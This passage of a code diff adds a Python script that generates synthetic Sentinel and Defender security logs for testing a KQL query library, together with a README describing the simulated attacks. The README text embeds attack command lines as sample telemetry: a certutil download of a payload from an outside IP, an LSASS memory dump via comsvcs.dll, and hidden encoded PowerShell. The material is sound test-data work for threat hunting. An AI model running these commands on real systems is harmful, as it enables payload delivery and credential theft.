+                            "OriginalAlertType": typ, "effectiveAzureResourceId": rid},
+                       remediation=["Review the activity.", "Escalate to the resource owner if it was not expected."])
+        sync_lifecycle(w, rng, a, rng.chance(0.4))
+        return
+    elif product == IOT:
+        name, sev, tac = rng.choice(IOT_T)
+        d = iot_entity(w, rng, e)
+        a = make_alert(w, rng, product, name, t, sev, ents=e, tactics=tac, compromised=d,
+                       ext={"Protocol": rng.choice(["S7", "Modbus", "EtherNet/IP"]), "Sensor": "sensor-plant-a",
+                            "Zone": "Plant A - Line 2", "Site": "Redmond plant"})
+        if rng.chance(0.3):
+            make_incident(w, rng, "Azure Sentinel", [a], steps=random_steps(rng), rule_ids=[w.rule_msc],
+                          classification=rng.wpick(CLASSIFICATIONS))
+        return
+    else:
+        name, sev, tac, tech, src = rng.choice(ASI_T)
+        dev = rng.choice(w.devices)
+        e.host(dev)
+        a = make_alert(w, rng, product, name, t, sev, ents=e, tactics=tac, techniques=tech, compromised=dev.name,
+                       ext={"Analytic Rule Name": name, "Query Period": "1.00:00:00", "Query Frequency": "01:00:00",
+                            "Trigger Operator": "GreaterThan", "Trigger Threshold": "0",
+                            "Search Query Results Overall Count": str(rng.randint(1, 40)), "Data Sources": jtext([src])})
+        make_incident(w, rng, "Azure Sentinel", [a], steps=random_steps(rng), rule_ids=[w.rule_asi],
+                      classification=rng.wpick(CLASSIFICATIONS))
+        return
+    make_incident(w, rng, "Microsoft 365 Defender", [a], steps=random_steps(rng), classification=rng.wpick(CLASSIFICATIONS))
+
+
+# ---------------------------------------------------------------------------
+# generation
+
+FILLERS = {
+    "DeviceInfo": fill_info, "DeviceNetworkInfo": fill_netinfo, "DeviceProcessEvents": fill_process,
+    "DeviceNetworkEvents": fill_network, "DeviceFileEvents": fill_file, "DeviceRegistryEvents": fill_registry,
+    "DeviceLogonEvents": fill_logon, "DeviceImageLoadEvents": fill_imageload, "DeviceEvents": fill_devevent,
+    "DeviceFileCertificateInfo": fill_cert,
+}
+EMAIL_TABLES = ["EmailEvents", "EmailUrlInfo", "EmailAttachmentInfo", "EmailPostDeliveryEvents"]
+
+
+def event_time(row: dict) -> int:
+    t = row.get("Timestamp")
+    return row["TimeGenerated"] if t is None else t
+
+
+def generate(seed: int, now: int, rows_per_table: int | None) -> World:
+    w = World(seed, now)
+    r = w.rng
+    w.spam_policy = r.guid()
+    w.appguard = r.guid()
+    w.merge_t = w.start
+    w.rule_ti, w.rule_bf, w.rule_msc, w.rule_asi = r.guid(), r.guid(), r.guid(), r.guid()
+    w.iot_connected = w.fix(minute_floor(now - 12 * DAY - 2 * HOUR - 30 * MINUTE))
+    w.idn_connected = w.fix(minute_floor(now - 10 * DAY + 2 * HOUR))
+    w.asc_sync = []
+    w.filler_messages = []
+    w.mail_rng = Rng(f"{seed}:mail")
+    for scen in SCENARIOS:
+        scen(w, Rng(f"{seed}:{scen.__name__}"))
+    rng = Rng(f"{seed}:asc-sync")
+    for a in w.asc_sync:
+        sync_lifecycle(w, rng, a, True)
+    rng = Rng(f"{seed}:alerts")
+    n = rows_per_table
+    if n is None:
+        for product, k in ALERT_QUOTA.items():
+            for _ in range(k):
+                fill_alert(w, rng, product)
+    else:
+        products = list(PRODUCTS)
+        i = 0
+        while len(w.rows["SecurityAlert"]) < n:
+            fill_alert(w, rng, products[i % len(products)])
+            i += 1
+        rng = Rng(f"{seed}:incidents")
+        m365 = [a for a in w.rows["SecurityAlert"] if a["ProductName"] in (MDATP, OATP, AATP)]
+        while len(w.rows["SecurityIncident"]) < n:
+            make_incident(w, rng, "Microsoft 365 Defender", rng.sample(m365, rng.randint(1, 2)),
+                          steps=random_steps(rng), classification=rng.wpick(CLASSIFICATIONS))
+    for table, fill in FILLERS.items():
+        rng = Rng(f"{seed}:{table}")
+        target = n if n is not None else BUNDLE_ROWS[table]
+        while len(w.rows[table]) < target:
+            w.rows[table].extend(fill(w, rng))
+    # email: every table walks the same stream of filler messages
+    if n is None:
+        i = 0
+        while len(w.rows["EmailEvents"]) < BUNDLE_ROWS["EmailEvents"]:
+            for table, rows in filler_message(w, i)[1].items():
+                w.rows[table].extend(rows)
+            i += 1
+    else:
+        for table in EMAIL_TABLES:
+            i = 0
+            while len(w.rows[table]) < n:
+                w.rows[table].extend(filler_message(w, i)[1][table])
+                i += 1
+    if n is not None:
+        for table in TABLES:
+            del w.rows[table][n:]
+    # Application Guard: Edge on the executive laptop runs in a container
+    for table in ("DeviceProcessEvents", "DeviceNetworkEvents", "DeviceEvents", "DeviceFileEvents", "DeviceImageLoadEvents"):
+        for row in w.rows[table]:
+            if row["DeviceName"] == "lt-exec-001.contoso.local" and row.get("InitiatingProcessFileName") == "msedge.exe":
+                row["AppGuardContainerId"] = w.appguard
+    for table in TABLES:
+        rows = w.rows[table]
+        order = sorted(range(len(rows)), key=lambda k: (event_time(rows[k]), k))
+        w.rows[table] = [rows[k] for k in order]
+        for row in w.rows[table]:
+            t = event_time(row)
+            if not (w.start <= t < w.now) or w.in_gap(t):
+                raise AssertionError(f"{table}: event time {fmt_dt(t)} outside the window or in the empty day")
+    return w
+
+
+# ---------------------------------------------------------------------------
+# output: schemas, encodings, files
+
+DOTNET = {"bool": "Boolean", "int": "Int32", "long": "Int64", "real": "Double", "decimal": "Decimal",
+          "string": "String", "datetime": "DateTime", "timespan": "TimeSpan", "guid": "Guid", "dynamic": "Object"}
+EXT = {"json": ".json", "jsonl": ".jsonl", "api-json": ".api.json", "defender-json": ".defender.json", "csv": ".csv"}
+SENTINEL_ONLY = ("TimeGenerated", "TenantId", "SourceSystem", "Type")
+
+
+def load_schemas(d: Path) -> dict[str, list[tuple[str, str]]]:
+    out = {}
+    for t in TABLES:
+        doc = json.loads((d / f"{t}.json").read_text(encoding="utf-8"))
+        out[t] = [(c["name"], c["type"]) for c in doc["columns"]]
+    return out
+
+
+def columns_for(cols, style: str):
+    if style == "defender":   # Defender advanced hunting: Timestamp, no Log Analytics columns
+        return [c for c in cols if c[0] not in SENTINEL_ONLY]
+    if style == "sentinel":   # a Sentinel export that kept TimeGenerated only
+        return [c for c in cols if c[0] != "Timestamp"]
+    return list(cols)
+
+
+def enc(v, typ: str, dyn_text: bool):
+    """One value as JSON (CLI.md's value-encoding table)."""
+    if v is None:
+        return "" if typ == "string" else None
+    if typ == "datetime":
+        return fmt_dt(v)
+    if typ == "dynamic":
+        return jtext(v) if dyn_text else v
+    if typ == "real":
+        v = float(v)
+        if v != v:
+            return "NaN"
+        if v in (float("inf"), float("-inf")):
+            return "Infinity" if v > 0 else "-Infinity"
+        return v
+    if typ in ("int", "long"):
+        return int(v)
+    if typ == "bool":
+        return bool(v)
+    return str(v)
+
+
+def enc_csv(v, typ: str) -> str:
+    if v is None:
+        return ""
+    if typ == "datetime":
+        return fmt_blade(v)
+    if typ == "dynamic":
+        return jtext(v)
+    if typ == "bool":
+        return "true" if v else "false"
+    if typ == "real":
+        return repr(float(v))
+    return str(v)
+
+
+def dumps(v) -> str:
+    return json.dumps(v, ensure_ascii=False, separators=(",", ":"))
+
+
+def render(fmt: str, table: str, cols, rows: list[dict]) -> bytes:
+    if fmt == "csv":
+        buf = io.StringIO()
+        wr = csv.writer(buf, lineterminator="\r\n")
+        wr.writerow([f"{c} [UTC]" if t == "datetime" else c for c, t in cols])
+        for r in rows:
+            wr.writerow([enc_csv(r.get(c), t) for c, t in cols])
+        return ("\ufeff" + buf.getvalue()).encode("utf-8")
+    dyn_text = fmt in ("api-json", "defender-json")
+    objs = [{c: enc(r.get(c), t, dyn_text) for c, t in cols} for r in rows]
+    if fmt in ("jsonl", "ndjson"):
+        text = "".join(dumps(o) + "\n" for o in objs)
+    elif fmt == "json":
+        text = "[\n" + ",\n".join(dumps(o) for o in objs) + "\n]\n" if objs else "[]\n"
+    elif fmt == "api-json":
+        head = dumps([{"name": c, "type": t} for c, t in cols])
+        body = ",\n".join(dumps(list(o.values())) for o in objs)
+        text = '{"tables":[{"name":"PrimaryResult","columns":' + head + ',"rows":[\n' + body + "\n]}]}\n"
+    elif fmt == "defender-json":
+        stats = {"ExecutionTime": 0.6875, "resource_usage": {"cache": {"memory": {"hits": 4, "misses": 0, "total": 4}}},
+                 "dataset_statistics": [{"table_row_count": len(objs), "table_size": 2048 * len(objs)}]}
+        head = dumps([{"Name": c, "Type": DOTNET[t]} for c, t in cols])
+        body = ",\n".join(dumps(o) for o in objs)
+        text = '{"Stats":' + dumps(stats) + ',"Schema":' + head + ',"Results":[\n' + body + "\n]}\n"
+    else:
+        raise ValueError(fmt)
+    return text.encode("utf-8")
+
+
+def plan(fmt: str) -> list[tuple[str, str, str, str, str]]:
+    """(file, table, format, column style, which rows)"""
+    if fmt != "mixed":
+        return [(t + EXT[fmt], t, fmt, "full", "all") for t in TABLES]
+    special = {
+        "SecurityAlert": [("SecurityAlert.api.json", "api-json", "full", "all")],
+        "SecurityIncident": [("SecurityIncident.json", "json", "full", "all")],
+        "DeviceProcessEvents": [("DeviceProcessEvents.sentinel.jsonl", "jsonl", "sentinel", "before"),
+                                ("DeviceProcessEvents.jsonl", "jsonl", "defender", "after")],
+        "DeviceEvents": [("DeviceEvents.ndjson", "ndjson", "full", "all")],
+        "DeviceNetworkEvents": [("DeviceNetworkEvents.json", "json", "full", "before"),
+                                ("DeviceNetworkEvents.defender.json", "defender-json", "defender", "after")],
+        "EmailEvents": [("EmailEvents.csv", "csv", "full", "all")],
+    }
+    out = []
+    for t in TABLES:
+        for f, fm, style, part in special.get(t, [(t + ".json", "json", "full", "all")]):
+            out.append((f, t, fm, style, part))
+    return out
+
+
+def write_all(w: World, out: Path, fmt: str, schemas) -> list[tuple[str, str, int, str, str, int]]:
+    out.mkdir(parents=True, exist_ok=True)
+    written = []
+    for fname, table, fm, style, part in plan(fmt):
+        rows = w.rows[table]
+        if part == "before":
+            rows = [r for r in rows if event_time(r) < w.gap[0]]
+        elif part == "after":
+            rows = [r for r in rows if event_time(r) >= w.gap[1]]
+        data = render(fm, table, columns_for(schemas[table], style), rows)
+        (out / fname).write_bytes(data)
+        written.append((fname, table, len(rows), fm, style, len(data)))
+    (out / "NOW").write_text(fmt_dt(w.now) + "\n", encoding="utf-8")
+    manifest = "file\ttable\trows\tformat\n" + "".join(
+        f"{f}\t{t}\t{n}\t{fm}\n" for f, t, n, fm, _, _ in sorted(written))
+    (out / "MANIFEST.tsv").write_text(manifest, encoding="utf-8")
+    return written
+
+
+# ---------------------------------------------------------------------------
+# README.md of the output
+
+STYLE_TEXT = {"full": "Timestamp and TimeGenerated (equal)", "defender": "Timestamp only (Defender export)",
+              "sentinel": "TimeGenerated only (Sentinel export)"}
+FORMAT_TEXT = {
+    "api-json": "Log Analytics query API response: typed columns, rows as arrays, dynamic as JSON text",
+    "json": "JSON array of objects, one object per line",
+    "jsonl": "newline-delimited JSON, one object per line",
+    "ndjson": "newline-delimited JSON, one object per line",
+    "defender-json": 'Defender advanced hunting API response: `{"Stats","Schema":[{"Name","Type"}],"Results":[...]}`, .NET type names, dynamic as JSON text',
+    "csv": "Logs blade \"Export to CSV\": UTF-8 BOM, `Name [UTC]` headers for datetimes, `M/D/YYYY, h:mm:ss.fff AM` datetimes (ms precision), RFC 4180 quoting, CRLF",
+}
+
+
+def readme(w: World, written, fmt: str, seed: int, rows_per_table: int | None, now_arg: str | None, schemas) -> str:
+    alerts, incs = w.rows["SecurityAlert"], w.rows["SecurityIncident"]
+    by_prod = {}
+    for a in alerts:
+        by_prod.setdefault(a["ProductName"], set()).add(a["SystemAlertId"])
+    inc_by = {}
+    for r in incs:
+        inc_by.setdefault(r["ProviderName"], set()).add(r["IncidentNumber"])
+    changed = {}
+    for a in alerts:
+        if a["ProductName"] == ASC:
+            changed.setdefault(a["SystemAlertId"], []).append(a["Status"])
+    changed = {k: v for k, v in changed.items() if len(v) > 1}
+    big = w.big_alert
+    big_size = len(dumps([enc(big.get(c), t, True) for c, t in schemas["SecurityAlert"]]))
+    iot = [a for a in alerts if a["ProductName"] == IOT]
+    idn = [a for a in alerts if a["ProductName"] == AATP]
+    args = []
+    if fmt != "mixed":
+        args.append(f"--format {fmt}")
+    if seed != DEFAULT_SEED:
+        args.append(f"--seed {seed}")
+    if rows_per_table is not None:
+        args.append(f"--rows-per-table {rows_per_table}")
+    if now_arg is not None and parse_iso(now_arg) != parse_iso(DEFAULT_NOW):
+        args.append(f"--now {fmt_dt(w.now)}")
+    cmd = "python3 tools/gen_sample.py --out examples/data" + "".join(" " + a for a in args)
+    L = []
+    L += ["# libkqlite sample data", "",
+          "Synthetic Microsoft Sentinel / Microsoft 365 Defender exports for trying and testing libkqlite",
+          "offline: the 16 tables of `data/schemas/` (SecurityAlert, SecurityIncident, the 10 Device* and",
+          "4 Email* advanced-hunting tables), every column present with a value of its KQL type.",
+          "Nothing here comes from a real tenant: people, hosts and the tenant are the fictional Contoso;",
+          "\"malicious\" IPs are documentation addresses (RFC 5737) and \"malicious\" domains are Contoso",
+          "look-alikes.", "",
+          "**Generated file, do not edit by hand.** It is the exact output of", "",
+          f"    {cmd}", "",
+          "(Python 3.11 standard library only, deterministic: the same arguments give byte-identical",
+          "files; `tests/sample_test.sh` checks that this directory is current.) Change",
+          "`tools/gen_sample.py` and regenerate instead.", "",
+          "## Reference time", "",
+          f"`NOW` holds the reference time, **{fmt_dt(w.now)}**. All rows fall in the 14 days before it,",
+          f"[{fmt_dt(w.start)}, {fmt_dt(w.now)}). Pin the clock to it so `ago()` and the connector charts",
+          "give the same answer every run:", "",
+          "    kqlite --now \"$(cat examples/data/NOW)\" examples/data -f examples/incident_ingestion_chart.kql", "",
+          "## The empty day", "",
+          f"No row of any table has its event time (Timestamp, or TimeGenerated) in",
+          f"**[{fmt_dt(w.gap[0])}, {fmt_dt(w.gap[1])})**: the whole calendar day",
+          f"{fmt_dt(w.gap_day)[:10]} and the daily bin `bin_at(TimeGenerated, 1d, now())` starting",
+          f"{fmt_dt(w.gap_bin)}, so both `bin(.., 1d)` and the connector ingestion charts show a zero.",
+          "Secondary datetimes (process creation times, certificate dates...) may still fall in it.", "",
+          "## Files", "",
+          "| file | table | rows | format | time columns | bytes |", "|---|---|---:|---|---|---:|"]
+    total = 0
+    for f, t, n, fm, style, size in written:
+        tcol = "TimeGenerated" if t.startswith("Security") else STYLE_TEXT[style]
+        L.append(f"| `{f}` | {t} | {n} | {fm} | {tcol} | {size} |")
+        total += size
+    L += ["", f"{sum(x[2] for x in written)} rows, {total} bytes of data. `MANIFEST.tsv` lists file, table, rows and format.", ""]
+    fmts = sorted({x[3] for x in written})
+    L += ["Formats (docs/CLI.md's encodings):", ""]
+    L += [f"- **{fm}**: {FORMAT_TEXT[fm]}." for fm in fmts]
+    L += ["- Values: long/int as JSON numbers, real in the shortest form, datetimes with up to 7 fractional",
+          "  digits (most keep all 7, some are whole ms or seconds; trailing zeros dropped), GUIDs lower-case;",
+          "  dynamic columns (AdditionalFields, LoggedOnUsers, Owner, AlertIds...) are the JSON value itself",
+          "  in json/jsonl/ndjson and JSON text in api-json, defender-json and CSV; a null string is `\"\"`, other",
+          "  nulls are `null` (an empty CSV field). SecurityAlert's Entities, ExtendedProperties, Techniques... are",
+          "  string columns holding JSON text, as in Sentinel.", ""]
+    if fmt == "mixed":
+        L += ["Two tables come in two files each (same table name, so a directory load appends them):",
+              "DeviceProcessEvents (`.sentinel.jsonl` = the days before the empty day, TimeGenerated only;",
+              "`.jsonl` = the days after it, Timestamp only) and DeviceNetworkEvents (`.json` = before, both",
+              "columns; `.defender.json` = after, Timestamp only). A column a file lacks loads as null, so",
+              "queries over the whole window use `coalesce(Timestamp, TimeGenerated)`. The columns",
+              "TenantId, SourceSystem and Type are absent from Defender-style files.", ""]
+    L += ["## Connectors (SecurityAlert ProductName / SecurityIncident ProviderName)", "",
+          "| ProductName | alerts (distinct SystemAlertId) |", "|---|---:|"]
+    for p in PRODUCTS:
+        L.append(f"| {p} | {len(by_prod.get(p, ()))} |")
+    L += ["", "| SecurityIncident ProviderName | incidents | rows (one per update) |", "|---|---:|---:|"]
+    for p in sorted(inc_by):
+        L.append(f"| {p} | {len(inc_by[p])} | {sum(1 for r in incs if r['ProviderName'] == p)} |")
+    L += ["", "Connection times (for the \"data appears 15 minutes / 24 hours after connecting\" checks):", "",
+          f"- Defender for IoT connected **{fmt_dt(w.iot_connected)}**; its first alert "
+          f"(\"{w.iot_first['AlertName']}\") has TimeGenerated {fmt_dt(w.iot_first['TimeGenerated'])}; "
+          f"no IoT alert is earlier ({len(iot)} rows in all).",
+          f"- Defender for Identity connected **{fmt_dt(w.idn_connected)}**; its first alert "
+          f"(\"{w.idn_first['AlertName']}\") has TimeGenerated {fmt_dt(w.idn_first['TimeGenerated'])} (about 24 h later); "
+          f"no Identity alert is earlier ({len(idn)} rows in all).", ""]
+    L += ["## Special cases", "",
+          f"- **An alert larger than 30 KB**: SecurityAlert SystemAlertId `{big['SystemAlertId']}`",
+          f"  (\"{big['AlertName']}\", {fmt_dt(big['TimeGenerated'])}): its row is {big_size} bytes in the api-json file because Entities lists",
+          "  every encrypted file. The Sentinel portal drops Entities from alerts over 30 KB; this row keeps it.",
+          "- **Defender for Cloud status sync**: these SystemAlertIds have several rows (one per status",
+          "  change; the latest TimeGenerated holds the current Status). Some change because the Azure Sentinel",
+          "  incident that contains them was set Active/Closed (bi-directional sync: alert InProgress/Resolved",
+          "  a minute or two later):", ""]
+    for k, v in changed.items():
+        L.append(f"  - `{k}`: {' -> '.join(v)}")
+    L += ["", "- **SecurityIncident rows are updates**: one row per change (New, Active, Closed) with the same",
+          "  IncidentNumber/IncidentName; take `arg_max(TimeGenerated, *) by IncidentNumber` for the current state.",
+          "  Owner, AlertIds (the SystemAlertIds of SecurityAlert), Labels, Comments, Tasks, AdditionalData are dynamic.",
+          "", "Detection stories (what typical hunting queries find):", ""]
+    L += stories(w)
+    L += ["", "Indicators: C2 `" + C2_DOMAIN + "` / " + C2_IP + ", payload host " + PAYLOAD_IP + ", phish domains `"
+          + PHISH_DOMAIN + "` (" + PHISH_IP + ") and `" + PHISH_DOMAIN2 + "` (" + PHISH_IP2 + "), brute-force sources "
+          + BRUTE_IP + " (RDP) and " + BRUTE_IP2 + " (SSH).", "",
+          "Notes:", "",
+          "- EmailPostDeliveryEvents uses the documented ActionType values `Phish ZAP`, `Malware ZAP` and",
+          "  `Manual remediation` (none is exactly `ZAP`: match with `has \"ZAP\"`).",
+          "- Office binaries are upper-case as Windows reports them (`WINWORD.EXE`, `EXCEL.EXE`,",
+          "  `OUTLOOK.EXE`): compare with `=~` / `in~`. InitiatingProcessFolderPath is lower-case, FolderPath is not.",
+          "- IPv4 addresses sometimes appear IPv4-mapped (`::ffff:10.1.4.42`, type FourToSixMapping); some",
+          "  connections and senders are IPv6.",
+          "- One EmailEvents Subject holds a line break and some hold commas, quotes and non-ASCII text (CSV quoting).",
+          ""]
+    return "\n".join(L)
+
+
+def stories(w: World) -> list[str]:
+    pa, pb = w.phish_a, w.phish_b
+    return [
+        f"- Phish with a credential-harvesting URL to 4 users ({fmt_dt(pa['t'])}), one click from",
+        "  lt-sales-221 (DeviceEvents BrowserLaunchedToOpenUrl, DeviceNetworkEvents to the phish IP), then `Phish ZAP`",
+        f"  for every recipient; EmailUrlInfo rows join on NetworkMessageId `{pa['id']}`.",
+        f"- A second phish wave to 5 users ({fmt_dt(pb['t'])}, NetworkMessageId `{pb['id']}`): ZAP fails",
+        "  (ActionResult Error) for one mailbox and an admin removes it (`Manual remediation`).",
+        f"- {fmt_dt(w.macro_t)}: Invoice_4471.docm to amelia.hart: OUTLOOK.EXE saves it, WINWORD.EXE opens it and starts",
+        "  `powershell.exe -nop -w hidden -enc ...` on ws-fin-042, which contacts the C2, sets a Run key",
+        "  (DeviceRegistryEvents) and is caught by AV (DeviceEvents AntivirusDetection); `Malware ZAP` follows.",
+        f"- In the last day ({fmt_dt(w.excel_t)}): an undetected .xlsm to ben.okafor; EXCEL.EXE starts",
+        "  `powershell.exe ... -EncodedCommand ...` on ws-fin-017 (its incident is still Active).",
+        f"- {fmt_dt(w.certutil_t)}, ws-eng-103: `certutil.exe -urlcache -split -f http://198.51.100.40/files/svchost.exe ...`;",
+        "  the unsigned payload in C:\\Users\\Public runs (DeviceFileCertificateInfo IsSigned false), then",
+        "  `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump <lsass pid> C:\\Windows\\Temp\\lsass.dmp full`",
+        "  (DeviceImageLoadEvents comsvcs.dll, DeviceEvents OpenProcessApiCall on lsass.exe, lsass.dmp created).",
+        "  srv-sql-03 has the same LSASS dump by an administrator (incident closed BenignPositive).",
+        f"- {fmt_dt(w.rdp_t)}, srv-rds-01: 36 LogonFailed from 203.0.113.45 within 6 minutes, then LogonSuccess for",
+        "  svc-backup (Network, then RemoteInteractive), discovery commands (whoami, net group), and 7 hours later",
+        "  files on srv-file-02's Finance share renamed to .locked over SMB (the >30 KB alert).",
+        f"- {fmt_dt(w.ssh_t)}, web-01: 20 failed SSH logons from 198.51.100.99, no success.",
+    ]
+
+
+# ---------------------------------------------------------------------------
+
+
+def main(argv=None) -> int:
+    ap = argparse.ArgumentParser(description="Generate the libkqlite sample data (synthetic, deterministic).")
+    ap.add_argument("--out", required=True, type=Path, help="output directory (created if missing)")
+    ap.add_argument("--seed", type=int, default=DEFAULT_SEED, help=f"random seed (default {DEFAULT_SEED})")
+    ap.add_argument("--rows-per-table", type=int, default=None, metavar="N",
+                    help="exactly N rows in every table (default: the bundle's sizes)")
+    ap.add_argument("--now", default=None, metavar="ISO8601", help=f"reference time (default {DEFAULT_NOW})")
+    ap.add_argument("--format", default="mixed", choices=FORMATS, help="file format (default mixed)")
+    ap.add_argument("--schemas", type=Path, default=SCHEMA_DIR, help=argparse.SUPPRESS)
+    a = ap.parse_args(argv)
+    if a.rows_per_table is not None and a.rows_per_table < 1:
+        ap.error("--rows-per-table must be at least 1")
+    try:
+        now = parse_iso(a.now or DEFAULT_NOW)
+    except argparse.ArgumentTypeError as e:
+        ap.error(str(e))
+    schemas = load_schemas(a.schemas)
+    w = generate(a.seed, now, a.rows_per_table)
+    written = write_all(w, a.out, a.format, schemas)
+    (a.out / "README.md").write_text(readme(w, written, a.format, a.seed, a.rows_per_table, a.now, schemas), encoding="utf-8")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
